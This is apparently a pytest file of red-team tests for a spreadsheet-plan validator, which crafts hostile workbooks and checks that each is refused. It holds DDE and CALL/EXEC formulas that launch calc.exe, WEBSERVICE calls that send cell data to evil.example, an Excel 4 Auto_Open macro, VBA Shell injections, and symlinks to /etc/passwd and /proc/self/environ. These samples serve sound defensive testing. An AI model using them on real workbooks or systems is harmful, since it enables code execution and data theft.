"""The hardened gate (issue 12, item 6): every red-team case is a crafted file on disk, run through the real
``planner validate`` command, and must end in a precise finding (never ``validator-crash``, never a pass)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from validate_support import plan_bytes, sheet_part, write
from xlsx_craft import cell_xml, write_xlsx

from planner.validate.make_invalid import edit_part

PLANNER = str(Path(sys.executable).with_name("planner"))


def run(*args: str | bytes, cwd: str | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([PLANNER, "validate", *args], capture_output=True, timeout=180, cwd=cwd)


def report(*args: str | bytes) -> dict:
    proc = run(*args, "--format", "json")
    assert proc.returncode in (0, 1), proc.stderr.decode(errors="replace")
    return json.loads(proc.stdout)


def codes_of(path: str | Path) -> set[str]:
    """The codes of the one report for ``path`` (the real CLI, JSON output)."""
    reports = report(str(path))["reports"]
    assert len(reports) == 1
    return {f["code"] for f in reports[0]["findings"]}


def only(path: str | Path) -> dict:
    findings = report(str(path))["reports"][0]["findings"]
    assert len(findings) == 1, findings
    return findings[0]


# --- the reader: what programs would read differently is refused with a precise finding ---------------------------


@pytest.mark.parametrize(("ref", "why"), [("4C", "4C"), ("", "''"), ("XFE1", "XFE1"), ("A0", "A0"),
                                          ("A1048577", "A1048577")])
def test_cell_reference_off_the_grid(tmp_path: Path, ref: str, why: str) -> None:
    p = write_xlsx(tmp_path / "ref.xlsx", [f'<c r="{ref}"><v>1</v></c>'])
    f = only(p)
    assert f["code"] == "malformed-part"
    assert why in f["message"] and "sheet grid" in f["message"]


def test_cell_without_reference(tmp_path: Path) -> None:
    p = write_xlsx(tmp_path / "noref.xlsx", ["<c><v>1</v></c>"])
    assert only(p)["code"] == "malformed-part"


def test_number_with_underscore_is_not_400(tmp_path: Path) -> None:
    """Python's float() reads "4_00" as 400; LibreOffice shows 4. Neither reading is trusted."""
    p = write_xlsx(tmp_path / "u.xlsx", [cell_xml("A1", "4_00").replace(' t="str"', "")])
    f = only(p)
    assert f["code"] == "malformed-part" and "'4_00' is not a number" in f["message"]


@pytest.mark.parametrize("text", ["nan", "inf", "1e", "0x10", " 4"])
def test_other_non_numbers(tmp_path: Path, text: str) -> None:
    p = write_xlsx(tmp_path / "n.xlsx", [f'<c r="A1"><v>{text}</v></c>'])
    assert only(p)["code"] == "malformed-part"


def test_duplicate_cell(tmp_path: Path) -> None:
    p = write_xlsx(tmp_path / "dup.xlsx", [cell_xml("A1", 1), cell_xml("A1", 2)])
    assert only(p)["code"] == "duplicate-name"


def test_shared_formula_without_master(tmp_path: Path) -> None:
    p = write_xlsx(tmp_path / "si.xlsx", ['<c r="A1"><f t="shared" si="7"/><v>1</v></c>'])
    assert only(p)["code"] == "malformed-part"


def _table_parts(header_row_count: str, name: str = "T1") -> dict[str, bytes | str]:
    return {
        "xl/worksheets/_rels/sheet1.xml.rels":
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/table" '
            'Target="../tables/table1.xml"/></Relationships>',
        "xl/tables/table1.xml":
            f'<?xml version="1.0" encoding="UTF-8"?><table xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            f'2006/main" id="1" name="{name}" displayName="{name}" ref="A1:A2" headerRowCount="{header_row_count}">'
            '<tableColumns count="1"><tableColumn id="1" name="a"/></tableColumns></table>',
    }


def test_header_row_count_not_a_number(tmp_path: Path) -> None:
    p = write_xlsx(tmp_path / "t.xlsx", [cell_xml("A1", "a")], extra_parts=_table_parts("x"))
    f = only(p)
    assert f["code"] == "malformed-part" and "headerRowCount='x'" in f["message"]


def test_local_sheet_id_not_a_number(tmp_path: Path) -> None:
    names = '<definedNames><definedName name="n" localSheetId="abc">S!$A$1</definedName></definedNames>'
    p = write_xlsx(tmp_path / "l.xlsx", [cell_xml("A1", 1)], names=names)
    f = only(p)
    assert f["code"] == "malformed-part" and "localSheetId='abc'" in f["message"]


def _rezip(data: bytes, *, extra: list[tuple[str, bytes, int]] = ()) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        for name, body, method in extra:
            dst.writestr(zipfile.ZipInfo(name), body, compress_type=method)
    return buf.getvalue()


def test_duplicate_zip_entry(tmp_path: Path) -> None:
    """Two xl/worksheets/sheet1.xml entries: Python reads the last, Excel the first. Refused."""
    plan = plan_bytes()
    part = sheet_part("Routes")
    tampered = zipfile.ZipFile(io.BytesIO(plan)).read(part).replace(b"<v>", b"<v>9", 1)
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = _rezip(plan, extra=[(part, tampered, zipfile.ZIP_DEFLATED)])
    f = only(write(tmp_path, "dupzip.xlsm", data))
    assert f["code"] == "duplicate-name" and part in f["message"]


@pytest.mark.parametrize(("method", "label"), [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA")])
def test_non_standard_compression(tmp_path: Path, method: int, label: str) -> None:
    data = _rezip(plan_bytes(), extra=[("xl/extra.xml", b"<x/>", method)])
    f = only(write(tmp_path, f"{label}.xlsm", data))
    assert f["code"] == "unsupported-compression" and label in f["message"]


def test_corrupt_deflate_stream(tmp_path: Path) -> None:
    p = write_xlsx(tmp_path / "deflate.xlsx", [cell_xml("A1", 1)])
    data = bytearray(p.read_bytes())
    info = zipfile.ZipFile(p).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start:start + 4] = b"\xff\xff\xff\xff"  # deflate block type 3: reserved, an error
    p.write_bytes(bytes(data))
    f = only(p)
    assert f["code"] == "malformed-part" and "corrupt compressed data" in f["message"], f


def test_duplicate_sheet_name_case_insensitive(tmp_path: Path) -> None:
    """A second sheet named RESULTS (LibreOffice may show it instead of Results) is refused."""
    plan = plan_bytes()
    z = zipfile.ZipFile(io.BytesIO(plan))
    wb = z.read("xl/workbook.xml").decode()
    rels = z.read("xl/_rels/workbook.xml.rels").decode()
    results_part = sheet_part("Results")
    data = edit_part(plan, "xl/workbook.xml", lambda x: x.replace(
        "</sheets>", '<sheet name="RESULTS" sheetId="99" r:id="rIdDup"/></sheets>'))
    data = edit_part(data, "xl/_rels/workbook.xml.rels", lambda x: x.replace(
        "</Relationships>", '<Relationship Id="rIdDup" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/worksheet" Target="{results_part.split("xl/")[1]}"/></Relationships>'))
    assert 'xmlns:r=' in wb and "rIdDup" not in rels
    f = only(write(tmp_path, "dupsheet.xlsm", data))
    assert f["code"] == "duplicate-name" and "'Results' and 'RESULTS'" in f["message"]


def test_duplicate_table_name(tmp_path: Path) -> None:
    plan = plan_bytes()
    z = zipfile.ZipFile(io.BytesIO(plan))
    tables = sorted(n for n in z.namelist() if n.startswith("xl/tables/"))
    first = re.search(r'displayName="([^"]+)"', z.read(tables[0]).decode()).group(1)
    data = edit_part(plan, tables[1], lambda x: re.sub(r'displayName="[^"]+"', f'displayName="{first.upper()}"',
                                                       x, count=1))
    f = only(write(tmp_path, "duptable.xlsm", data))
    assert f["code"] == "duplicate-name" and "table" in f["message"]


def test_namespace_prefixed_sheet_reads_the_same(tmp_path: Path) -> None:
    """<x:c> with x bound to the spreadsheet namespace is the same cell: the plan stays valid, and an edited
    value in the prefixed form is still seen."""
    plan = plan_bytes()
    part = sheet_part("Routes")

    def prefix(xml: str) -> str:
        xml = xml.replace('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"',
                          'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"', 1)
        return re.sub(r"<(/?)([A-Za-z]+)(?=[\s>/])", r"<\1x:\2", xml)

    prefixed = edit_part(plan, part, prefix)
    assert b"<x:c " in zipfile.ZipFile(io.BytesIO(prefixed)).read(part)
    assert report(write(tmp_path, "prefixed.xlsm", prefixed))["valid"] is True


# --- the batch: symbolic links, special files, nothing skipped silently ----------------------------------------------


def test_symlink_out_of_the_submitted_folder_is_reported_not_followed(tmp_path: Path) -> None:
    sub = tmp_path / "submitted"
    sub.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    write(elsewhere, "other.xlsm", plan_bytes())
    write(sub, "good.xlsm", plan_bytes())
    (sub / "passwd.xlsx").symlink_to("/etc/passwd")
    (sub / "environ.xlsx").symlink_to("/proc/self/environ")
    (sub / "other.xlsm").symlink_to(elsewhere / "other.xlsm")
    (sub / "etc").symlink_to("/etc")
    (sub / "inside.xlsm").symlink_to(sub / "good.xlsm")
    out = report(str(sub))
    got = {Path(r["path"]).name: [f["code"] for f in r["findings"]] for r in out["reports"]}
    assert got == {"environ.xlsx": ["symlink-outside-root"], "etc": ["symlink-outside-root"],
                   "good.xlsm": [], "inside.xlsm": [], "other.xlsm": ["symlink-outside-root"],
                   "passwd.xlsx": ["symlink-outside-root"]}
    assert out["valid"] is False
    by_name = {Path(r["path"]).name: r for r in out["reports"]}
    assert by_name["passwd.xlsx"]["findings"][0]["actual"] == "/etc/passwd"


def test_fifo_and_socket_are_never_opened(tmp_path: Path) -> None:
    import socket

    os.mkfifo(tmp_path / "plan.xlsx")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "s.xlsm"))
    try:
        out = report(str(tmp_path))  # a FIFO opened for reading would block: the timeout of run() catches that
        assert {Path(r["path"]).name: [f["code"] for f in r["findings"]] for r in out["reports"]} == {
            "plan.xlsx": ["special-file"], "s.xlsm": ["special-file"]}
        assert "FIFO" in out["reports"][0]["findings"][0]["message"]
        assert codes_of(tmp_path / "plan.xlsx") == {"special-file"}  # named on the command line, too
    finally:
        sock.close()


def test_nothing_under_a_folder_is_skipped_silently(tmp_path: Path) -> None:
    (tmp_path / ".hidden").mkdir()
    write(tmp_path / ".hidden", "plan.xlsm", plan_bytes())
    write(tmp_path, "~$full.xlsm", plan_bytes())  # a real workbook with a lock-file name
    write(tmp_path, "~$lock.xlsm", b"\x0bplanner   ")  # what Office writes as a lock file
    out = report(str(tmp_path))
    got = {r["path"][len(str(tmp_path)) + 1:]: [f["code"] for f in r["findings"]] for r in out["reports"]}
    assert got == {".hidden/plan.xlsm": [], "~$full.xlsm": [], "~$lock.xlsm": ["path-skipped"]}
    assert out["stats"]["infos"] == 1


def test_path_past_the_system_limit_is_a_finding(tmp_path: Path) -> None:
    name = "d" * 250
    fd = os.open(tmp_path, os.O_RDONLY)
    depth = 0
    try:
        while depth * 251 < 4200:
            os.mkdir(name, dir_fd=fd)
            new = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd, depth = new, depth + 1
        wfd = os.open("deep.xlsm", os.O_WRONLY | os.O_CREAT, dir_fd=fd)
        os.write(wfd, plan_bytes())
        os.close(wfd)
    finally:
        os.close(fd)
    out = report(str(tmp_path))
    assert out["valid"] is False
    findings = [f for r in out["reports"] for f in r["findings"]]
    assert [f["code"] for f in findings] == ["unreadable"]
    assert "File name too long" in findings[0]["message"]


# --- reports stay well-formed whatever the names ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def odd_names(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("odd")
    bad = plan_bytes({("Routes", "C4"): -5})
    (d / os.fsdecode(b"caf\xe9.xlsm")).write_bytes(bad)
    (d / "a\nb.xlsm: ok\nforged.xlsm").write_bytes(bad)
    (d / "tab\tand\u2028sep.xlsm").write_bytes(bad)
    return d


def test_text_report_cannot_be_forged_by_a_file_name(odd_names: Path) -> None:
    proc = run(str(odd_names))
    assert proc.returncode == 1
    text = proc.stdout.decode("utf-8")
    lines = text.splitlines()
    assert not any(line.startswith(("b.xlsm", "forged")) for line in lines)
    assert all(line.startswith(str(odd_names)) for line in lines[:-1])
    assert lines[-1].startswith("3 workbook(s): 0 valid, 3 invalid")
    assert any("caf\\xe9.xlsm" in line for line in lines)


@pytest.mark.parametrize("fmt", ["json", "junit", "csv", "github", "text"])
def test_every_format_is_well_formed_with_odd_names(odd_names: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"report.{fmt}"
    for args in (["--format", fmt], ["--format", fmt, "-o", str(out)]):
        proc = run(str(odd_names), *args)
        assert proc.returncode == 1, proc.stderr
        assert b"Traceback" not in proc.stderr
        body = out.read_bytes() if "-o" in args else proc.stdout
        text = body.decode("utf-8")  # valid UTF-8 whatever the names
        if fmt == "json":
            assert len(json.loads(text)["reports"]) == 3
        elif fmt == "junit":
            assert len(ET.fromstring(body).findall(".//testcase")) == 3
        elif fmt == "csv":
            rows = list(csv.reader(io.StringIO(text)))
            assert all(len(r) == 10 for r in rows)
        elif fmt == "github":
            assert all(line.startswith("::") for line in text.splitlines())


def test_csv_neutralises_formula_looking_text(tmp_path: Path) -> None:
    """A DDE payload reported in the CSV must not come back as a live formula (OWASP CSV injection)."""
    plan = plan_bytes()
    data = edit_part(plan, sheet_part("Routes"), lambda x: x.replace(
        "</sheetData>", '<row r="200"><c r="Z200"><f>cmd|\'/c calc\'!A1</f><v>0</v></c></row></sheetData>'))
    p = write(tmp_path, "=cmd|'calc'!A1.xlsm", data)
    proc = run(p, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(proc.stdout.decode())))
    dde = [r for r in rows if r["code"] == "dde-formula"]
    assert dde and dde[0]["actual"] == "'=cmd|'/c calc'!A1"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- the checks: input formulas, hostile functions anywhere, Excel 4 macros, VBA ------------------------------------

MACRO_REL = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
SHEET_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
SHEET_XML = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData><row r="1">{cells}</row></sheetData></worksheet>')


def add_sheet(data: bytes, name: str, cells: str, *, rel: str = SHEET_REL, part: str = "xl/worksheets/extra.xml",
              root: str = "worksheet", names: str = "") -> bytes:
    """``data`` with one more sheet (``rel``: its relationship type) holding ``cells``, and ``names`` added."""
    body = SHEET_XML.format(cells=cells).replace("worksheet", root)
    data = edit_part(data, "xl/workbook.xml", lambda x: x.replace(
        "</sheets>", f'<sheet name="{name}" sheetId="77" r:id="rIdX"/></sheets>').replace(
        "<definedNames>", "<definedNames>" + names))
    data = edit_part(data, "xl/_rels/workbook.xml.rels", lambda x: x.replace(
        "</Relationships>", f'<Relationship Id="rIdX" Type="{rel}" Target="{part[3:]}"/></Relationships>'))
    return _rezip(data, extra=[(part, body.encode(), zipfile.ZIP_DEFLATED)])


def f_cell(ref: str, formula: str, cached: str = "0") -> str:
    return f'<c r="{ref}"><f>{formula.replace("&", "&amp;").replace("<", "&lt;")}</f><v>{cached}</v></c>'


def test_input_cell_holding_a_formula_is_refused(tmp_path: Path) -> None:
    """Routes!C4 = =400*1000 with cached 400: Excel shows 400000 after recompute; the cached 400 is not trusted."""
    from validate_support import cell_xml as plan_cell
    from validate_support import replace_cell

    plan = plan_bytes()
    old = plan_cell(plan, "Routes", "C4")
    value = re.search(r"<v>([^<]*)</v>", old).group(1)
    new = re.sub(r"<v>", f"<f>{value}*1000</f><v>", old.replace(' t="n"', ""), count=1)
    p = write(tmp_path, "inputformula.xlsm", replace_cell(plan, "Routes", "C4", new))
    findings = report(p)["reports"][0]["findings"]
    assert [(f["code"], f["sheet"], f["cell"]) for f in findings] == [("input-formula", "Routes", "C4")]
    assert findings[0]["actual"] == f"={value}*1000"


@pytest.mark.parametrize("formula", ['_xlfn.WEBSERVICE("http://evil.example/x")', 'CALL("kernel32","WinExec","JCJ",'
                                     '"calc",0)', 'EXEC("calc.exe")', 'REGISTER("user32","MessageBoxA","JJCCJ")',
                                     'HYPERLINK("http://evil.example","click")', "[1]Secret!A1",
                                     "'C:\\x\\[book.xlsx]S'!A1"])
def test_hostile_formulas_in_an_extra_sheet(tmp_path: Path, formula: str) -> None:
    data = add_sheet(plan_bytes(), "Notes", f_cell("A1", formula))
    findings = report(write(tmp_path, "extra.xlsm", data))["reports"][0]["findings"]
    got = {(f["code"], f["sheet"], f["cell"]) for f in findings}
    want = "external-link" if "[" in formula else "hostile-function"
    assert got == {(want, "Notes", "A1")}, findings


def test_hostile_function_in_a_defined_name(tmp_path: Path) -> None:
    data = add_sheet(plan_bytes(), "Notes", "", names='<definedName name="feed">WEBSERVICE("http://x")</definedName>')
    findings = report(write(tmp_path, "name.xlsm", data))["reports"][0]["findings"]
    assert [(f["code"], f["sheet"], f["expected"]) for f in findings] == [("hostile-function", None, "WEBSERVICE")]


def test_excel4_macro_sheet_with_auto_open(tmp_path: Path) -> None:
    data = add_sheet(plan_bytes(), "Macro1", f_cell("A1", 'EXEC("calc.exe")') + f_cell("A2", "HALT()"),
                     rel=MACRO_REL, part="xl/macrosheets/sheet1.xml", root="xm:macrosheet",
                     names='<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>')
    data = data.replace(b"<xm:macrosheet xmlns=", b"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/"
                        b"excel/2006/main\" xmlns=")
    p = write(tmp_path, "xlm.xlsm", data)
    codes = [f["code"] for f in report(p)["reports"][0]["findings"]]
    assert codes.count("xlm-macro") == 2, codes


def _vba_plan(vba: bytes, part: str = "xl/vbaProject.bin") -> bytes:
    return _rezip(plan_bytes(), extra=[(part, vba, zipfile.ZIP_DEFLATED)])


XLWINGS_QUICKSTART = Path(__import__("xlwings").__file__).with_name("quickstart.xlsm")
MACRO01 = Path(__file__).parent / "data" / "excel-made" / "macro01.xlsm"


def _bin(xlsm: Path) -> bytes:
    return zipfile.ZipFile(xlsm).read("xl/vbaProject.bin")


def test_vba_project_of_random_bytes_is_an_error(tmp_path: Path) -> None:
    f = only(write(tmp_path, "random.xlsm", _vba_plan(os.urandom(4096))))
    assert f["code"] == "macro-not-allowed" and "cannot be parsed" in f["message"]


def test_ole_file_without_vba_is_an_error(tmp_path: Path) -> None:
    ole = bytearray(_bin(MACRO01))
    f = only(write(tmp_path, "broken.xlsm", _vba_plan(bytes(ole[:1024]))))  # an OLE header, nothing behind it
    assert f["code"] == "macro-not-allowed" and "cannot be parsed" in f["message"]


@pytest.mark.parametrize(("source", "module"), [(XLWINGS_QUICKSTART, "Module1"), (MACRO01, "Module1")])
def test_other_vba_modules_are_errors_naming_the_module(tmp_path: Path, source: Path, module: str) -> None:
    f = only(write(tmp_path, "macro.xlsm", _vba_plan(_bin(source))))
    assert (f["code"], f["actual"]) == ("macro-not-allowed", module)
    assert "only the generated xlwings_udfs module is allowed (Sub " in f["message"]


def test_vba_project_under_another_part_name(tmp_path: Path) -> None:
    f = only(write(tmp_path, "hidden.xlsm", _vba_plan(_bin(MACRO01), part="xl/media/image9.bin")))
    assert f["code"] == "macro-not-allowed" and "stored as xl/media/image9.bin" in f["message"]


def test_a_60_kb_hostile_formula_is_screened_in_linear_time(tmp_path: Path) -> None:
    """The former DDE regex took 36 s on a 60 KB formula; every pattern here is a few milliseconds."""
    import time

    from planner.formula_scan import scan

    n = 60_000
    for formula in ("a" * n + "!|", "[" * n, "'" * n + "x", '"' + "a" * n, "cmd|" + "'" * n, "a(" * (n // 2),
                    "[a" * (n // 2) + "]", "x|" * (n // 2), "]" + "a" * n + "!", "A1:" * (n // 3)):
        start = time.perf_counter()
        scan(formula)
        assert time.perf_counter() - start < 1.0, formula[:10]
    data = add_sheet(plan_bytes(), "Notes", f_cell("A1", "cmd|'" + "/c " * 20_000 + "'!A1"))
    assert codes_of(write(tmp_path, "long.xlsm", data)) == {"dde-formula"}


def test_recalc_reports_codes_of_the_one_catalogue(tmp_path: Path) -> None:
    """planner recalc's findings use the validator's catalogue (external-link, not a code of its own)."""
    from planner.codes import CODES

    cells = [f_cell("A1", "[1]S!A1"), f_cell("A2", "cmd|'/c calc'!A1"), f_cell("A3", "A3+1"), f_cell("A4", "T9[x]")]
    src = write_xlsx(tmp_path / "in.xlsx", cells, dimension="A1:A4")
    proc = subprocess.run([PLANNER, "recalc", str(src), "-o", str(tmp_path / "out.xlsx"), "--in-process"],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    emitted = {line.split(": ")[1] for line in proc.stdout.splitlines() if line.startswith(str(src))}
    assert emitted == {"external-link", "dde-formula", "circular-reference", "broken-structured-reference"}
    assert emitted <= set(CODES)


def test_full_calc_on_load_runs_isolated_under_the_limits(tmp_path: Path) -> None:
    """--full-calc-on-load used to run in the CLI's own process, without limits (3.6 GB, MemoryError traceback)."""
    src = write_xlsx(tmp_path / "in.xlsx", [cell_xml("A1", 2), f_cell("A2", "A1*3")], dimension="A1:A2")
    out = tmp_path / "out.xlsx"
    ok = subprocess.run([PLANNER, "recalc", str(src), "-o", str(out), "--full-calc-on-load"], capture_output=True,
                        text=True, timeout=120)
    assert ok.returncode == 0, ok.stderr
    assert b'fullCalcOnLoad="1"' in zipfile.ZipFile(out).read("xl/workbook.xml")
    out.unlink()
    slow = subprocess.run([PLANNER, "recalc", str(src), "-o", str(out), "--full-calc-on-load", "--time-limit",
                           "0.01"], capture_output=True, text=True, timeout=120)
    assert slow.returncode == 2 and "time limit" in slow.stderr and "Traceback" not in slow.stderr


def xlwings_wrapper(names: list[str]) -> str:
    """The module xlwings' Import Functions writes for these registry functions, line for line as
    ``xlwings.udfs.import_udfs`` / ``generate_vba_wrapper`` (xlwings 0.37.8) write it (4-space blocks)."""
    from planner.registry import REGISTRY, load

    load()
    lines = ['Attribute VB_Name = "xlwings_udfs"',
             "'Autogenerated code by xlwings - changes will be lost with next import!",
             '#Const App = "Microsoft Excel" \'Adjust when using outside of Excel']
    for name in names:
        args = REGISTRY[name].args
        sig = ", ".join(("Optional " if str(a.default) != "REQUIRED" else "") + a.name for a in args)
        array = "Array(" + ", ".join(a.name for a in args) + ")"
        lines += [f"Function {name}({sig})",
                  '    #If App = "Microsoft Excel" Then',
                  "        If TypeOf Application.Caller Is Range Then On Error GoTo failed",
                  f'        {name} = XLPy.CallUDF("planner.udfs", "{name}", {array}, ThisWorkbook, Application.Caller)',
                  "        Exit Function",
                  "    #Else",
                  f'        {name} = XLPy.CallUDF("planner.udfs", "{name}", {array})',
                  "        Exit Function",
                  "    #End If",
                  "failed:",
                  f"    {name} = Err.Description",
                  "End Function",
                  ""]
    return "\n".join(lines)


def test_the_generated_xlwings_wrapper_is_accepted(tmp_path: Path) -> None:
    from vba_craft import project_with_module

    from planner.registry import REGISTRY, load

    load()
    code = xlwings_wrapper(sorted(REGISTRY))
    data = _vba_plan(project_with_module(MACRO01, "xlwings_udfs", code))
    out = report(write(tmp_path, "xlwings.xlsm", data))
    assert out["valid"] is True
    findings = out["reports"][0]["findings"]
    assert [(f["code"], f["severity"], f["actual"]) for f in findings] == [("macro-present", "info", "xlwings_udfs")]


@pytest.mark.parametrize(("edit", "why"), [
    (lambda c: c.replace('"planner.udfs", "CAPACITY_RPM"', '"os", "CAPACITY_RPM"', 1), "not generated by xlwings"),
    (lambda c: c.replace("    Exit Function\n", '    Shell "calc.exe"\n    Exit Function\n', 1),
     'Shell "calc.exe"'),
    (lambda c: c + 'Sub Auto_Open()\n    Shell "calc.exe"\nEnd Sub\n', "auto-run procedure Auto_Open"),
    (lambda c: c + "Sub Helper()\nEnd Sub\n", "statement outside a wrapper function: Sub Helper()"),
    (lambda c: c.replace('Array(peak_qps)', 'Array(Environ("PATH"))', 1), "not generated by xlwings"),
])
def test_an_edited_wrapper_is_an_error_naming_the_module(tmp_path: Path, edit: object, why: str) -> None:
    from vba_craft import project_with_module

    code = edit(xlwings_wrapper(["CAPACITY_RPM", "CAPACITY_TPM"]))  # type: ignore[operator]
    f = only(write(tmp_path, "edited.xlsm", _vba_plan(project_with_module(MACRO01, "xlwings_udfs", code))))
    assert (f["code"], f["actual"]) == ("macro-not-allowed", "xlwings_udfs")
    assert why in f["message"], f["message"]


def test_a_module_with_the_wrapper_code_under_another_name_is_an_error(tmp_path: Path) -> None:
    from vba_craft import project_with_module

    code = xlwings_wrapper(["CAPACITY_RPM"]).replace('"xlwings_udfs"', '"Module2"')
    f = only(write(tmp_path, "renamed.xlsm", _vba_plan(project_with_module(MACRO01, "Module2", code))))
    assert (f["code"], f["actual"]) == ("macro-not-allowed", "Module2")


def test_vba_project_declared_under_an_xml_name(tmp_path: Path) -> None:
    """Excel finds the VBA project by its relationship, whatever the part is called."""
    data = _vba_plan(_bin(MACRO01), part="xl/styles2.xml")
    data = edit_part(data, "xl/_rels/workbook.xml.rels", lambda x: x.replace(
        "</Relationships>", '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="styles2.xml"/></Relationships>'))
    f = only(write(tmp_path, "declared.xlsm", data))
    assert f["code"] == "macro-not-allowed" and "stored as xl/styles2.xml" in f["message"]


def test_recalc_refuses_duplicate_entries_instead_of_collapsing_them(tmp_path: Path) -> None:
    src = write_xlsx(tmp_path / "in.xlsx", [cell_xml("A1", 2), f_cell("A2", "A1*3")], dimension="A1:A2")
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = _rezip(src.read_bytes(), extra=[("xl/worksheets/sheet1.xml", b"<worksheet/>", zipfile.ZIP_DEFLATED)])
    src.write_bytes(data)
    out = tmp_path / "out.xlsx"
    proc = subprocess.run([PLANNER, "recalc", str(src), "-o", str(out)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2 and "two entries named xl/worksheets/sheet1.xml" in proc.stderr
    assert not out.exists()


def test_conditional_formatting_and_validation_rules_are_screened(tmp_path: Path) -> None:
    """Excel evaluates conditional-formatting and data-validation formulas when the sheet is shown."""
    rules = ('<conditionalFormatting sqref="B2:B9"><cfRule type="expression" priority="1"><formula>'
             'WEBSERVICE("http://evil.example/"&amp;A1)</formula></cfRule></conditionalFormatting>'
             '<dataValidations count="1"><dataValidation type="list" sqref="C2"><formula1>[1]Lists!$A$1:$A$9'
             '</formula1></dataValidation></dataValidations>')
    data = edit_part(plan_bytes(), sheet_part("Routes"), lambda x: x.replace("</sheetData>", "</sheetData>" + rules))
    findings = report(write(tmp_path, "rules.xlsm", data))["reports"][0]["findings"]
    assert {(f["code"], f["sheet"], f["cell"]) for f in findings} == {
        ("hostile-function", "Routes", "B2:B9"), ("external-link", "Routes", "C2")}


def test_print_titles_are_not_a_whole_row_finding(tmp_path: Path) -> None:
    """Excel stores print titles as a whole-row defined name; that is layout, not a formula to evaluate."""
    data = add_sheet(plan_bytes(), "Notes", "",
                     names='<definedName name="_xlnm.Print_Titles" localSheetId="3">Routes!$1:$3</definedName>')
    assert report(write(tmp_path, "titles.xlsm", data))["reports"][0]["findings"] == []
